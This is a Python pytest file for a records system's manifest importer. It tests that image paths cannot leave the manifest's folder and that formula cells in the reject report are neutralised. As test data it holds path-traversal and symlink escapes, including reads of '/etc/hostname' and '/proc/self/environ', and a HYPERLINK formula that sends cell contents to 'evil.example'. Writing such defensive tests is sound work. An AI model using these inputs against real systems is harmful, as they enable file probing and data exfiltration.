"""The import reads only inside its manifest's folder, and its reject report is no formula.

``../``, absolute paths and symlinks that lead out of the folder are one reject reason,
identical whether the file they name exists, is a folder or is not an image, so the import
cannot be used to probe the machine's files. Inside the folder the finer reasons remain."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import func, select

from retention.db.models import Image, Record
from retention.files import neutralise
from retention.ingest.importer import (
    OUTSIDE,
    ImportReport,
    Rejected,
    import_manifest,
    write_reject_report,
)
from retention.services import Services
from tests.conftest import FIXED_NOW
from tests.helpers import clock_at, jpeg_bytes, row, write_manifest

REASON = f"column images: image 1 {OUTSIDE}"


def _layout(tmp_path: Path) -> tuple[Path, Path]:
    """``batch/`` (the manifest's folder) and ``outside/`` beside it, holding a real photo, a
    text file and a sub-folder; symlinks inside ``batch/img`` pointing out."""
    batch, outside = tmp_path / "batch", tmp_path / "outside"
    (batch / "img").mkdir(parents=True)
    (outside / "sub").mkdir(parents=True)
    (outside / "secret.jpg").write_bytes(jpeg_bytes(colour=(1, 2, 3)))
    (outside / "notes.txt").write_text("not a photo\n")
    (batch / "img" / "own.jpg").write_bytes(jpeg_bytes())
    (batch / "img" / "link-out.jpg").symlink_to(outside / "secret.jpg")
    (batch / "img" / "dangling.jpg").symlink_to(outside / "no-such.jpg")
    (batch / "img" / "dir-out").symlink_to(outside)
    (batch / "img" / "link-in.jpg").symlink_to(batch / "img" / "own.jpg")
    return batch, outside


ESCAPES = [
    "../outside/secret.jpg",  # exists, a valid photo
    "../outside/no-such.jpg",  # does not exist
    "../outside/sub",  # a folder
    "../outside/notes.txt",  # not an image
    "img/../../outside/secret.jpg",
    "{outside}/secret.jpg",  # absolute: exists
    "{outside}/no-such.jpg",  # absolute: missing
    "{outside}/sub",  # absolute: a folder
    "/etc/hostname",
    "/proc/self/environ",
    "img/link-out.jpg",  # a symlink to a photo outside
    "img/dangling.jpg",  # a symlink to nothing, outside
    "img/dir-out/secret.jpg",  # through a symlinked folder
    "img/dir-out/no-such.jpg",
]


def _import(manifest: Path, services: Services) -> ImportReport:
    return import_manifest(manifest, services, actor="test:clerk", clock=clock_at(FIXED_NOW))


def test_every_escape_gets_one_identical_reason_and_nothing_is_read(
    tmp_path: Path, services: Services
) -> None:
    batch, outside = _layout(tmp_path)
    rows = [
        row(booking_number=f"ESC-{n}", images=path.format(outside=outside))
        for n, path in enumerate(ESCAPES)
    ]
    manifest = write_manifest(batch / "manifest.csv", rows)

    report = _import(manifest, services)

    assert report.imported == 0
    assert len(report.rejected) == len(ESCAPES)
    assert {r.reason for r in report.rejected} == {REASON}
    with services.readers() as s:
        assert s.execute(select(func.count()).select_from(Image)).scalar_one() == 0
        assert s.execute(select(func.count()).select_from(Record)).scalar_one() == 0
    assert list(services.store.keys()) == []


def test_inside_the_folder_the_finer_reasons_remain_and_inner_symlinks_work(
    tmp_path: Path, services: Services
) -> None:
    batch, _ = _layout(tmp_path)
    (batch / "img" / "notes.jpg").write_text("typed notes\n")
    rows = [
        row(booking_number="IN-1", images="img/own.jpg"),
        row(booking_number="IN-2", images="img/link-in.jpg"),  # a symlink that stays inside
        row(booking_number="IN-3", images="img/missing.jpg"),
        row(booking_number="IN-4", images="img"),
        row(booking_number="IN-5", images="img/notes.jpg"),
        row(booking_number="IN-6", images="./img/../img/own.jpg;../outside/secret.jpg"),
    ]
    manifest = write_manifest(batch / "manifest.csv", rows)

    report = _import(manifest, services)

    assert report.imported == 2
    reasons = {r.booking_number: r.reason for r in report.rejected}
    assert reasons["IN-3"] == "column images: image 1 (missing.jpg) not found"
    assert reasons["IN-4"] == "column images: image 1 (img) is a folder"
    assert "not a JPEG or PNG" in reasons["IN-5"]
    assert reasons["IN-6"] == f"column images: image 2 {OUTSIDE}"  # one bad image spoils the row


def test_a_fifo_inside_the_folder_is_refused_without_blocking(
    tmp_path: Path, services: Services
) -> None:
    batch, _ = _layout(tmp_path)
    os.mkfifo(batch / "img" / "pipe.jpg")
    manifest = write_manifest(batch / "m.csv", [row(images="img/pipe.jpg")])

    report = _import(manifest, services)

    assert [r.reason for r in report.rejected] == [
        "column images: image 1 (pipe.jpg) is not a regular file"
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_formula_cells_in_the_written_reject_report_are_neutralised(
    tmp_path: Path, services: Services
) -> None:
    batch, _ = _layout(tmp_path)
    rows = [row(booking_number=b, images="img/missing.jpg") for b in FORMULAS]
    manifest = write_manifest(batch / "manifest.csv", rows)
    report = _import(manifest, services)
    # Tab and carriage return cannot come through a manifest (leading blanks are stripped and
    # control characters refused), so they are added to the report directly.
    report.rejected += [Rejected(90, "\tTAB", "\t=1+1"), Rejected(91, "\r=CR", "@bad")]
    target = tmp_path / "rejects.csv"

    write_reject_report(report, target)

    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with target.open(newline="", encoding="utf-8") as fh:
        cells = list(csv.reader(fh))
    assert cells[0] == ["line", "booking_number", "reason"]
    written = {line: (booking, reason) for line, booking, reason in cells[1:]}
    assert [written[str(n)][0] for n in range(2, 6)] == ["'" + f for f in FORMULAS]
    assert written["90"] == ("'\tTAB", "'\t=1+1")
    assert written["91"] == ("'\r=CR", "'@bad")
    for booking, reason in written.values():
        for cell in (booking, reason):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("MPS-1", "MPS-1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_only_cells_that_start_like_a_formula(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


def test_a_symlink_swapped_in_after_the_check_is_still_outside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from retention.ingest import importer

    batch, outside = _layout(tmp_path)
    swapped = batch / "img" / "swap.jpg"
    swapped.write_bytes(jpeg_bytes())
    real_inside = importer._inside

    def check_then_swap(folder: Path, relative: str) -> Path | None:
        checked = real_inside(folder, relative)
        swapped.unlink()  # the race: after the check, before the open
        swapped.symlink_to(outside / "secret.jpg")
        return checked

    monkeypatch.setattr(importer, "_inside", check_then_swap)
    folder = batch.resolve()
    with pytest.raises(importer.ManifestError) as caught:
        importer.read_image_file(folder, "img/swap.jpg", 1, 10_000_000)
    assert str(caught.value) == REASON
